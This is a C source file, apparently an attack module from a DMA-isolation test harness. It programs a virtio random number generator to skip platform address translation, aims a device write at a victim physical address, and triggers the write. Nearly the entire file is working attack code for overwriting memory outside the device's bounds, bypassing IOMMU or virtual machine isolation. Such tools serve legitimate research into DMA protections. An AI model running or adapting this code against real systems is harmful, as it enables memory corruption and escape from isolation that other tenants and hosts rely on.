/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A virtio random number generator that goes past the unit (Virtio 1.2, 4.1 and
 * 5.4): it takes physical addresses, and is told the victim's.
 */
#include "attack.h"

#define CAP_VENDOR	0x09
#define CAP_TYPE	3
#define CAP_BAR		4
#define CAP_OFFSET	8
#define CAP_NOTIFY_UNIT	16
#define TYPE_COMMON	1
#define TYPE_NOTIFY	2

#define OUR_WORD	0x08	/* in the common structure */
#define OUR_FEATURE	0x0c
#define STATUS		0x14
#define QUEUE_SIZE	0x18
#define QUEUE_ENABLE	0x1c
#define QUEUE_NOTIFY	0x1e
#define QUEUE_DESC	0x20
#define QUEUE_DRIVER	0x28
#define QUEUE_DEVICE	0x30

#define ENTRIES		8	/* of the queue, in one page of ours: */
#define AVAIL		0x100
#define USED		0x200
#define WRITES		2	/* flag of a descriptor */
#define BYTES		64
#define PATIENCE	100	/* milliseconds */

static volatile uint8_t *structure(unsigned type, unsigned *cap)
{
	volatile uint8_t *bar;

	*cap = 0;
	do
		*cap = drv_cap(mine, CAP_VENDOR, *cap);
	while (*cap && drv_config(mine, *cap + CAP_TYPE, 1) != type);
	bar = drv_bar(mine, drv_config(mine, *cap + CAP_BAR, 1), NULL);
	if (!*cap || !bar)
		fatal("%s: no structure %u: %r", mine, type);
	return bar + drv_config(mine, *cap + CAP_OFFSET, 4);
}

static void put_addr(volatile uint8_t *at, uint64_t addr)
{
	put32(at, (uint32_t)addr);
	put32(at + 4, (uint32_t)(addr >> 32));
}

/* Without ACCESS_PLATFORM: addresses are physical ones. */
static void start(volatile uint8_t *common, uint64_t ring)
{
	static const uint8_t steps[] = { 0, 1, 3, 11 };

	for (unsigned i = 0; i < ARRAY_SIZE(steps); i++) {
		if (steps[i] == 11) {
			put32(common + OUR_WORD, 1);
			put32(common + OUR_FEATURE, 1);	/* VERSION_1 */
		}
		put8(common + STATUS, steps[i]);
	}
	put16(common + QUEUE_SIZE, ENTRIES);
	put_addr(common + QUEUE_DESC, ring);
	put_addr(common + QUEUE_DRIVER, ring + AVAIL);
	put_addr(common + QUEUE_DEVICE, ring + USED);
	put16(common + QUEUE_ENABLE, 1);
	put8(common + STATUS, 15);
}

void virtio_write(const struct row *r, uint64_t addr)
{
	uint8_t *ring = drv_memory(PAGE);
	unsigned cap;
	volatile uint8_t *common = structure(TYPE_COMMON, &cap);
	volatile uint8_t *bell = structure(TYPE_NOTIFY, &cap);

	(void)r;
	if (!ring)
		fatal("%r");
	addr = ask("victim", 0);
	put64(ring, addr);
	put32(ring + 8, BYTES);
	put16(ring + 12, WRITES);
	put16(ring + AVAIL + 2, 1);
	start(common, ask("frame", (uintptr_t)ring));
	bell += get16(common + QUEUE_NOTIFY) *
		drv_config(mine, cap + CAP_NOTIFY_UNIT, 4);
	drv_fence();
	put16(bell, 0);
	sleep_ms(PATIENCE);
	said("the device has written %u bytes to 0x%lx",
	     get16(ring + USED + 2) ? BYTES : 0, addr);
}
